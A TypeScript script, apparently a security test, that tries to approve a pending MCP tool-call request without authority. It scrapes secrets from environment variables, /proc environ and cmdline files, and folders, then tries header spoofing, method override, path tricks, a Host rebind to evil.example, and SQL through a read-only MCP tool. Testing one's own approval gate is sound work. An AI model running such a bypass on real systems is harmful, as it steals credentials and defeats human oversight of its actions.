/**
 * A process that wants a call approved and is nobody who may: arguments are the address of a page, the id of the request, the
 * process of the page, and folders to look into. It gathers whatever looks like a secret and tries it in each place. Prints
 * one JSON line: how many secrets it found, and each way with the status it got. Imports nothing of this project, so that it
 * can be copied to where another user can run it.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { serialize } from 'node:v8';

/** Tries everything once. */
export async function stealApproval(
  page: string,
  id: string,
  pid: string,
  folders: readonly string[],
): Promise<{ secrets: number; tried: readonly (readonly [string, number])[] }> {
  const texts = [
    JSON.stringify(process.env),
    ...['environ', 'cmdline'].flatMap((name) => [
      read(`/proc/${pid}/${name}`),
      read(`/proc/${process.ppid}/${name}`),
    ]),
    ...folders.flatMap(filesIn).map(read),
  ];
  const found = texts.join('\n').match(/(?<![\w-])[\w-]{43}(?![\w-])/gu) ?? [];
  const doors = [...new Set(texts.join('\n').match(/(?<="door":\{"url":")http:\/\/127[^"]+/gu) ?? [])];
  const secrets = [...new Set(['guess', ...found])].slice(0, 50);
  const { host, port } = new URL(page);
  const path = `/api/waiting/${id}`;
  const json = { 'content-type': 'application/json' };
  const browser = { origin: `http://${host}`, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors' };
  const ways: [string, Parameters<typeof ask>[1]][] = [
    ['bare', { path, headers: json }],
    ['as a browser', { path, headers: { ...json, ...browser } }],
    ['by GET', { path: `${path}?decision=approve`, method: 'GET', headers: {} }],
    ['by PUT', { path, method: 'PUT', headers: json }],
    ['overridden', { path, method: 'GET', headers: { ...json, 'x-http-method-override': 'POST' } }],
    ['another form of the path', { path: `/%61pi/waiting/${id}`, headers: json }],
    ['below /mcp', { path: `/mcp/..${path}`, headers: json }],
    ['rebound name', { path, headers: { ...json, host: `evil.example:${port}` } }],
    ...secrets.flatMap((secret): [string, Parameters<typeof ask>[1]][] => [
      ['bearer', { path, headers: { ...json, authorization: `Bearer ${secret}` } }],
      ['token of the address', { path: `/?token=${secret}`, method: 'GET', headers: {} }],
      ['token beside', { path: `${path}?token=${secret}`, headers: json }],
      ...secrets.slice(0, 8).map((key): [string, Parameters<typeof ask>[1]] => [
        'cookie and key',
        {
          path,
          headers: { ...json, cookie: `mcp_observatory_${port}=${secret}`, 'x-observatory-key': key },
        },
      ]),
      ...doors.map((door): [string, Parameters<typeof ask>[1]] => [
        'database by its door',
        { door, path: '/', headers: { authorization: `Bearer ${secret}` }, body: claiming(id) },
      ]),
      ['database by /mcp', { path: '/mcp', headers: mcpHeaders(secret), body: decidingQuery(id) }],
    ]),
  ];
  const tried: [string, number][] = [];
  for (const [name, way] of ways) tried.push([name, await ask(page, way)]);
  return { secrets: found.length, tried };
}

/** What the door of a store is asked. */
function claiming(id: string): Buffer {
  const text = `SELECT mcp_reviews_claim('thief', 1000, NULL, $1::text::uuid)`;
  return serialize({ statements: [{ text, values: [id] }], isForeign: false, timeoutMs: 1000 });
}

function mcpHeaders(secret: string): Record<string, string> {
  const accept = 'application/json, text/event-stream';
  return { 'content-type': 'application/json', accept, authorization: `Bearer ${secret}` };
}

/** `query` of the store's MCP server, which may only read. */
function decidingQuery(id: string): string {
  const sql = `SELECT * FROM mcp_reviews_claim('thief', 1000, NULL, '${id}')`;
  const params = { name: 'query', arguments: { sql } };
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params });
}

function ask(
  page: string,
  {
    door = page,
    path,
    method = 'POST',
    headers,
    body = '{"decision":"approve"}',
  }: {
    door?: string;
    path: string;
    method?: string;
    headers: Record<string, string>;
    body?: string | Buffer;
  },
): Promise<number> {
  const { hostname, port } = new URL(door);
  return new Promise((resolve) => {
    const sent = request({ hostname, port, path, method, headers, agent: false }, (response) => {
      response.resume().on('end', () => resolve(response.statusCode ?? 0));
    });
    sent.on('error', () => resolve(0));
    sent.end(method === 'GET' ? undefined : body);
  });
}

function read(path: string): string {
  try {
    return readFileSync(path, 'utf8').slice(0, 100_000);
  } catch {
    return '';
  }
}

function filesIn(folder: string): string[] {
  try {
    return readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .slice(0, 500)
      .map((name) => join(folder, name));
  } catch {
    return [];
  }
}

const [page, id, pid, ...folders] = process.argv.slice(2);
if (page?.startsWith('http://') && id !== undefined && pid !== undefined) {
  process.stdout.write(`${JSON.stringify(await stealApproval(page, id, pid, folders))}\n`);
}
